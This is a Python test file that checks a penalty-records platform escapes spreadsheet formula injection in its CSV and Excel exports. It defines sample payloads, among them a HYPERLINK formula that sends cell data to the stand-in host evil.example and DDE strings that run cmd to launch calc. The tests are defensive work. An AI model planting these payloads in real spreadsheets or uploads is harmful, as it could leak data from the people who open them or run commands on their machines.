"""Every cell the platform writes to CSV or XLSX that a spreadsheet would run as a formula
(= + - @, tab, carriage return) is written as text, with a leading apostrophe (OWASP)."""

from __future__ import annotations

import csv
import io
import time
from datetime import date
from pathlib import Path

import polars as pl
from click.testing import CliRunner
from fastapi.testclient import TestClient
from helpers import org, penalty_values, save_penalty, staff_headers
from openpyxl import load_workbook
from penalty_files import good_row, write_csv
from sqlalchemy.orm import Session

from xinyong.audit.log import Actor
from xinyong.catalog.registry import get_catalog
from xinyong.catalog.template import write_template
from xinyong.cli.main import cli
from xinyong.ingest.pipeline import ingest_file
from xinyong.safety.cells import safe_cell, safe_frame, xlsx_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
HARMLESS = ["-12.5", "+8613800000000", "1e5", "示范市=测试", "", "正常文本", " =1+1"]


def _neutralised(value: str) -> bool:
    return value.startswith("'") and value[1:] in HOSTILE


def test_cell_rule_and_its_frame_form_agree() -> None:
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    for value in HARMLESS:
        assert safe_cell(value) == value
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    frame = pl.DataFrame({"v": HOSTILE + HARMLESS + [None]})
    assert safe_frame(frame)["v"].to_list() == [safe_cell(v) for v in frame["v"].to_list()]
    assert safe_frame(pl.DataFrame({"=evil": ["x"]})).columns == ["'=evil"]
    assert xlsx_cell("a\x00b\x07c") == "a\ufffdb\ufffdc"


def _hostile_rows() -> list[dict[str, str]]:
    """One row per hostile value, each rejected for a broken code, the value in its facts."""
    return [
        good_row(n, 统一社会信用代码="91440507MA00000000", 违法事实=value, 备注=value)
        for n, value in enumerate(HOSTILE)
    ]


def _text_xlsx(path: Path, rows: list[dict[str, str]]) -> Path:
    """An Excel file whose every cell is text (a formula-like value typed as text)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(list(rows[0]))
    for number, row in enumerate(rows, start=2):
        for column, value in enumerate(row.values(), start=1):
            cell = sheet.cell(number, column, value or None)
            cell.data_type = "s"
    workbook.save(path)
    return path


def test_rejected_rows_files_hold_no_formula(session: Session, tmp_path: Path) -> None:
    rows = _hostile_rows()
    actor = Actor("cli:test")
    source = write_csv(tmp_path / "bad.csv", rows)
    result = ingest_file(session, "admin_penalty", source, actor=actor, today=date(2026, 11, 22))
    assert result.rejected == len(HOSTILE)
    text = Path(result.rejected_file or "").read_bytes().decode("utf-8-sig")
    facts = [row["违法事实"] for row in csv.DictReader(io.StringIO(text))]
    assert len(facts) == len(HOSTILE) and all(_neutralised(v) for v in facts), facts

    book = _text_xlsx(tmp_path / "bad.xlsx", rows)
    result = ingest_file(session, "admin_penalty", book, actor=actor, today=date(2026, 11, 22))
    sheet = load_workbook(result.rejected_file or "").active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "live formulas written"
    header = [c.value for c in sheet[1]]
    facts = [row[header.index("违法事实")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # every value comes back as it was sent, carriage return included, and neutralised
    assert facts == ["'" + v for v in HOSTILE]


def test_publicity_export_holds_no_formula(session: Session, tmp_path: Path) -> None:
    subject = org(session)
    for n, value in enumerate(HOSTILE):
        values = penalty_values(subject, ["警告"], date(2026, 5, 1), f"X-{n}") | {"CF_WFXW": value}
        save_penalty(session, subject, values)
    session.commit()
    out = tmp_path / "export"
    for fmt in ("csv", "xlsx"):
        args = ["publicity", "export", "admin_penalty", "--out", str(out), "--format", fmt]
        done = CliRunner().invoke(cli, [*args, "--full"])
        assert done.exit_code == 0, done.output
    text = next(out.glob("*.csv")).read_bytes().decode("utf-8-sig")
    kinds = [row["CF_WFXW"] for row in csv.DictReader(io.StringIO(text))]
    assert sorted(kinds) == sorted("'" + v for v in HOSTILE)
    sheet = load_workbook(next(out.glob("*.xlsx"))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "live formulas written"
    column = [c.value for c in sheet[1]].index("CF_WFXW")
    # (XML reads a carriage return back as a line feed)
    written = [
        str(row[column]).replace("\n", "\r") for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert sorted(written) == sorted("'" + v for v in HOSTILE)


def test_bulk_check_result_holds_no_formula(
    session: Session, client: TestClient, tmp_path: Path
) -> None:
    headers = staff_headers(session, ["checks"])
    upload = tmp_path / "subjects.csv"
    pl.DataFrame({"主体": [DDE, "@SUM(1,2)"]}).write_csv(upload)
    with upload.open("rb") as handle:
        started = client.post(
            "/api/v1/checks/bulk",
            headers=headers,
            files={"file": ("subjects.csv", handle, "text/csv")},
            data={"matter": "GP", "purpose": "批量资格审查"},
        )
    assert started.status_code == 200, started.text
    status: dict[str, str] = {}
    for _ in range(100):
        status = client.get(started.json()["status"], headers=headers).json()
        if status["state"] in ("done", "failed"):
            break
        time.sleep(0.1)
    assert status["state"] == "done", status
    text = client.get(status["result_url"], headers=headers).content.decode("utf-8-sig")
    subjects = [row["主体"] for row in csv.DictReader(io.StringIO(text))]
    assert sorted(subjects) == sorted(["'" + DDE, "'@SUM(1,2)"])


def test_template_holds_no_formula(tmp_path: Path) -> None:
    catalog = get_catalog()
    item = catalog.item("admin_penalty")
    first = item.fields[0].model_copy(update={"header": HYPERLINK, "description": DDE})
    hostile = item.model_copy(update={"name": HYPERLINK, "fields": [first, *item.fields[1:]]})
    book = load_workbook(write_template(hostile, catalog, tmp_path / "template.xlsx"))
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not formulas, formulas
    assert book["填报数据"]["A1"].value == "'" + HYPERLINK
    guide = [c.value for row in book["填报说明"].iter_rows() for c in row]
    assert "'" + HYPERLINK in guide and "'" + DDE in guide
